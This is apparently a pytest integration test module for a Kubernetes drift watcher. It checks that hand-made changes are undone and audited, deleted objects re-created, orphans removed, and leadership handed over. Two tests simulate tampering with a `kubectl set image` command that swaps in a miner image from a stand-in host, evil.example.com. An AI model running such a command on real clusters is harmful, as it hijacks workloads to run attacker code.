"""The watcher (`manage.py watch_clusters`) against the local cluster: drift undone and
audited, deleted objects re-created, orphans deleted, no resync involved.

One watcher and one Celery worker serve the whole module (no beat: a correction can
only come from the watcher). The module has an installation label of its own, so the
watcher sees only this module's objects; each test still gets its own namespace.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings

from apps.deployments import manifests
from apps.deployments.choices import ConditionType
from apps.deployments.models import Deployment, Event
from apps.deployments.watch.informer import Change, Informer, Source, key_of
from controlplane.celery import app
from tests.fixtures.kube import component_stopped, crash_looping
from tests.reconciler.conftest import (
    PROGRESS_DEADLINE_S,
    REPO_ROOT,
    database_url,
    is_available,
    kubectl,
    owned,
    wait_for_record,
)

pytestmark = [pytest.mark.cluster, pytest.mark.django_db(transaction=True)]

INSTALLATION = f"w{uuid.uuid4().hex[:10]}"
# Short, so a standby takes over quickly in the leader test.
LEASE_S = 4
# Patience for a correction; the watcher usually takes well under two seconds.
PATIENCE_S = 60


@pytest.fixture(autouse=True)
def installation(settings) -> str:
    """The module's installation label (the conftest's is per test)."""
    settings.GANTRY_INSTALLATION = INSTALLATION
    settings.GANTRY_PROGRESS_DEADLINE_S = PROGRESS_DEADLINE_S
    return INSTALLATION


def spawn(command: list[str], log: Path, **env: str) -> subprocess.Popen:
    """A process of Gantry on the test database and broker, logging to `log`."""
    environment = {
        **os.environ,
        "DATABASE_URL": database_url(),
        "REDIS_URL": settings.REDIS_URL,
        "GANTRY_INSTALLATION": INSTALLATION,
        "GANTRY_PROGRESS_DEADLINE_S": str(PROGRESS_DEADLINE_S),
        "GANTRY_WATCH_LEASE_S": str(LEASE_S),
        "GANTRY_WATCH_CLUSTERS_POLL_S": "1",
        **env,
    }
    with log.open("w") as out:
        return subprocess.Popen(
            command,
            cwd=REPO_ROOT,
            env=environment,
            stdout=out,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )


def watcher_command() -> list[str]:
    return [str(REPO_ROOT / ".venv" / "bin" / "python"), "manage.py", "watch_clusters"]


def stop(process: subprocess.Popen, sig: int = signal.SIGTERM) -> None:
    if process.poll() is not None:
        return
    os.killpg(process.pid, sig)
    try:
        process.wait(timeout=20)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


@dataclass
class Processes:
    worker_log: Path
    watcher_log: Path
    watcher: subprocess.Popen
    logs: Path

    def tail(self) -> str:
        return (
            f"watcher log:\n{self.watcher_log.read_text()[-3000:]}\n"
            f"worker log:\n{self.worker_log.read_text()[-2000:]}"
        )


@pytest.fixture(scope="module")
def processes(django_db_setup, tmp_path_factory, kube_cluster) -> Iterator[Processes]:
    logs = tmp_path_factory.mktemp("watch")
    app.control.purge()  # messages left by earlier tests are not this module's business
    worker_log, watcher_log = logs / "worker.log", logs / "watcher.log"
    worker = spawn(
        [
            str(REPO_ROOT / ".venv" / "bin" / "celery"),
            "-A", "controlplane", "worker", "--concurrency", "2", "--pool", "prefork",
            "--without-gossip", "--without-mingle", "--without-heartbeat",
            "--hostname", f"watch-{uuid.uuid4().hex[:8]}@localhost",
            "--loglevel", "INFO", "--queues", "reconcile",
        ],
        worker_log,
    )  # fmt: skip
    watcher = spawn(watcher_command(), watcher_log)
    yield Processes(worker_log, watcher_log, watcher, logs)
    stop(watcher)
    stop(worker)


def eventually(check: Callable[[], Any], *, what: str, processes: Processes) -> Any:
    """Poll `check` until it returns something truthy; fail naming `what`, with the logs."""
    deadline = time.monotonic() + PATIENCE_S
    while True:
        found = check()
        if found:
            return found
        if time.monotonic() > deadline:
            pytest.fail(f"timed out waiting for {what}\n{processes.tail()}")
        time.sleep(0.2)


@pytest.fixture
def running(processes, make_deployment) -> Callable[..., Deployment]:
    """A deployment made Available by the worker, as the watcher found it."""

    def make(**spec: Any) -> Deployment:
        deployment = make_deployment(**spec)
        record = wait_for_record(
            deployment.pk, is_available, what="Available", log=processes.worker_log
        )
        assert record is not None
        return record

    return make


def notes(deployment: Deployment, verb: str = "correct-drift") -> list[str]:
    return list(
        Event.objects.filter(deployment=deployment, verb=verb).values_list("message", flat=True)
    )


def note_about(deployment: Deployment, *words: str) -> Callable[[], str | None]:
    def check() -> str | None:
        return next((n for n in notes(deployment) if all(w in n for w in words)), None)

    return check


def live(cluster, deployment: Deployment, kind: str) -> dict[str, Any] | None:
    found = owned(cluster, deployment, kind)
    return found[0] if found else None


def image(cluster, deployment: Deployment) -> str:
    obj = live(cluster, deployment, "Deployment") or {}
    return (
        obj.get("spec", {})
        .get("template", {})
        .get("spec", {})
        .get("containers", [{}])[0]
        .get("image", "")
    )


def test_an_image_set_with_kubectl_is_undone_and_audited(running, processes, cluster, kube_cluster):
    deployment = running(replicas=2)
    wanted = image(cluster, deployment)

    kubectl(
        kube_cluster.kubeconfig, "-n", deployment.namespace,
        "set", "image", "deployment/chat", "server=evil.example.com/miner:1",
    )  # fmt: skip

    eventually(
        lambda: image(cluster, deployment) == wanted, what="the image restored", processes=processes
    )
    message = eventually(
        note_about(deployment, "Deployment chat", "kubectl-set"),
        what="an audit event for the image",
        processes=processes,
    )
    assert "image" in message, message


def test_replicas_scaled_with_kubectl_are_undone_and_audited(
    running, processes, cluster, kube_cluster
):
    deployment = running(replicas=2)

    kubectl(
        kube_cluster.kubeconfig, "-n", deployment.namespace,
        "scale", "deployment/chat", "--replicas=5",
    )  # fmt: skip

    eventually(
        lambda: (live(cluster, deployment, "Deployment") or {})["spec"]["replicas"] == 2,
        what="replicas back to 2",
        processes=processes,
    )
    eventually(
        note_about(deployment, "spec.replicas", "Deployment chat"),
        what="an audit event for the replicas",
        processes=processes,
    )


@pytest.mark.parametrize("kind", ["Service", "PodDisruptionBudget", "HorizontalPodAutoscaler"])
def test_a_deleted_object_is_recreated_and_audited(kind, running, processes, cluster, kube_cluster):
    deployment = running(min_replicas=2, max_replicas=4, autoscaling_target=80)
    before = live(cluster, deployment, kind)
    assert before is not None, f"the deployment has no {kind} to delete"

    cluster.delete(kind, before["metadata"]["name"], deployment.namespace)

    again = eventually(
        lambda: (
            (obj := live(cluster, deployment, kind))
            and obj["metadata"]["uid"] != before["metadata"]["uid"]
            and obj
        ),
        what=f"the {kind} re-created",
        processes=processes,
    )
    assert again["metadata"]["name"] == before["metadata"]["name"]
    eventually(
        note_about(deployment, f"Re-created {kind}", "deleted outside Gantry"),
        what=f"an audit event for the {kind}",
        processes=processes,
    )


def test_a_deleted_limit_range_of_the_team_namespace_is_recreated_and_audited(
    running, processes, cluster, team
):
    deployment = running(replicas=1)
    before = cluster.get("LimitRange", manifests.LIMIT_RANGE, deployment.namespace)
    assert before is not None, "the team namespace has no LimitRange to delete"

    cluster.delete("LimitRange", manifests.LIMIT_RANGE, deployment.namespace)

    eventually(
        lambda: (
            (obj := cluster.get("LimitRange", manifests.LIMIT_RANGE, deployment.namespace))
            and obj["metadata"]["uid"] != before["metadata"]["uid"]
        ),
        what="the LimitRange re-created",
        processes=processes,
    )
    event = eventually(
        lambda: (
            Event.objects.filter(team=team, verb="correct-drift", target__startswith="namespace ")
            .filter(message__contains="Re-created LimitRange")
            .first()
        ),
        what="an audit event for the LimitRange",
        processes=processes,
    )
    assert deployment.namespace in event.target, event.target


def test_replicas_the_hpa_sets_are_left_alone(running, processes, cluster, kube_cluster):
    deployment = running(min_replicas=2, max_replicas=4, autoscaling_target=80)
    # What the HPA controller does: write the scale subresource.
    kubectl(
        kube_cluster.kubeconfig, "-n", deployment.namespace,
        "scale", "deployment/chat", "--replicas=3",
    )  # fmt: skip
    # Then a drift the watcher does correct: once it is undone, the scale was seen before.
    service = live(cluster, deployment, "Service")
    assert service is not None
    cluster.delete("Service", service["metadata"]["name"], deployment.namespace)
    eventually(
        note_about(deployment, "Re-created Service"), what="the Service back", processes=processes
    )

    assert (live(cluster, deployment, "Deployment") or {})["spec"]["replicas"] == 3
    assert not [n for n in notes(deployment) if "replicas" in n]


def test_an_orphan_made_by_hand_is_deleted_and_audited(
    running, processes, cluster, kube_cluster, team
):
    deployment = running(replicas=1)
    gone_id = str(deployment.pk + 100000)
    orphan = {
        "apiVersion": "v1",
        "kind": "Service",
        "metadata": {
            "name": "leftover",
            "namespace": deployment.namespace,
            "labels": {
                manifests.MANAGED_BY: manifests.MANAGER,
                manifests.INSTALLATION: INSTALLATION,
                manifests.DEPLOYMENT_ID: gone_id,
                manifests.TEAM: team.name,
            },
        },
        "spec": {"ports": [{"name": "http", "port": 80}]},
    }

    cluster.apply(orphan, field_manager="someone")

    eventually(
        lambda: (
            cluster.get("Service", "leftover", deployment.namespace) is None
            or cluster.get("Service", "leftover", deployment.namespace)["metadata"].get(
                "deletionTimestamp"
            )
        ),
        what="the orphan deleted",
        processes=processes,
    )
    event = eventually(
        lambda: Event.objects.filter(verb="delete-unwanted", target__endswith="/leftover").first(),
        what="an audit event for the orphan",
        processes=processes,
    )
    assert event.team == team
    assert "orphan" in event.message, event.message


def test_a_pod_that_starts_crash_looping_turns_the_record_degraded(
    running, processes, cluster, kube_cluster
):
    deployment = running(replicas=2)
    pod = owned(cluster, deployment, "Pod")[0]
    name = pod["metadata"]["name"]

    status = crash_looping(pod["status"])
    kubectl(
        kube_cluster.kubeconfig, "-n", deployment.namespace, "patch", "pod", name,
        "--subresource=status", "--type=merge", "-p", json.dumps({"status": status}),
    )  # fmt: skip

    def degraded() -> dict[str, Any] | None:
        record = Deployment.objects.get(pk=deployment.pk)
        found = record.condition(ConditionType.DEGRADED) or {}
        return found if found.get("status") == "True" else None

    found = eventually(degraded, what="the record Degraded", processes=processes)
    assert found["reason"] == "CrashLoopBackOff", found
    assert name in found["message"], found


def test_the_watch_survives_an_api_server_restart_and_relists_on_410(
    running, processes, cluster_record, cluster, kube_cluster
):
    deployment = running(replicas=2)
    wanted = image(cluster, deployment)

    with component_stopped("kube-apiserver"):
        time.sleep(2)  # the watches see their connections drop

    kubectl(
        kube_cluster.kubeconfig, "-n", deployment.namespace,
        "set", "image", "deployment/chat", "server=evil.example.com/miner:2",
    )  # fmt: skip
    eventually(
        lambda: image(cluster, deployment) == wanted,
        what="the image restored after the restart",
        processes=processes,
    )
    # The restarted kube-apiserver keeps a new window of changes; version 1 is out of it,
    # so resuming from it is answered 410 Gone. What the informer missed is handed on.
    informer, changes = resume_from_version_1(cluster_record.pk, cluster)
    assert informer.relists == 1, "the informer did not relist after 410 Gone"
    missed = [(c.type, c.obj["metadata"]["name"]) for c in changes]
    assert ("DELETED", "gone-meanwhile") in missed, missed
    assert ("ADDED", "default") in missed, missed


def resume_from_version_1(cluster_id: int, cluster) -> tuple[Informer, list[Change]]:
    """An informer that last saw version 1, and a Namespace since deleted, started again."""
    changes: list[Change] = []
    stop_informer = threading.Event()
    informer = Informer(
        cluster_id,
        lambda: cluster,
        Source("Namespace", labels=(("kubernetes.io/metadata.name", "default"),)),
        changes.append,
        stop_informer,
    )
    stale = {"kind": "Namespace", "metadata": {"name": "gone-meanwhile", "resourceVersion": "1"}}
    informer.store[key_of(stale)] = stale
    informer.version = "1"
    informer.start()
    informer.synced.wait(timeout=PATIENCE_S)
    stop_informer.set()
    return informer, changes


# Last in the module: it kills the module's watcher.
def test_only_the_leader_acts_and_a_standby_takes_over_when_it_is_killed(
    running, processes, cluster, kube_cluster
):
    deployments = [running(name=f"chat{i}", replicas=1) for i in range(3)]
    standby_log = processes.logs / "standby.log"
    standby = spawn(watcher_command(), standby_log)
    try:
        eventually(
            lambda: "watching cluster local" in standby_log.read_text(),
            what="the standby watching",
            processes=processes,
        )
        first = deployments[0]
        cluster.delete("Service", first.name, first.namespace)
        eventually(note_about(first, "Re-created Service"), what="the leader", processes=processes)
        assert f"reconcile {first.pk}:" in processes.watcher_log.read_text()
        assert "now leads" not in standby_log.read_text(), "the standby acted too"
        assert f"reconcile {first.pk}:" not in standby_log.read_text(), "the standby acted too"

        # A burst, and the leader killed in the middle of it.
        for deployment in deployments:
            cluster.delete("Service", deployment.name, deployment.namespace)
        os.killpg(processes.watcher.pid, signal.SIGKILL)
        processes.watcher.wait()

        def recreated(deployment: Deployment) -> list[str]:
            return [n for n in notes(deployment) if "Re-created Service" in n]

        for deployment in deployments:
            expected = 2 if deployment == first else 1
            eventually(
                lambda d=deployment, n=expected: (
                    live(cluster, d, "Service") and len(recreated(d)) >= n
                ),
                what=f"the Service of {deployment.name} back, through the standby",
                processes=processes,
            )
        assert "now leads" in standby_log.read_text()
        # Each correction once: the standby re-made what was missing, nothing twice.
        counts = {d.name: len(recreated(d)) for d in deployments}
        assert counts == {"chat0": 2, "chat1": 1, "chat2": 1}, counts
    finally:
        stop(standby)
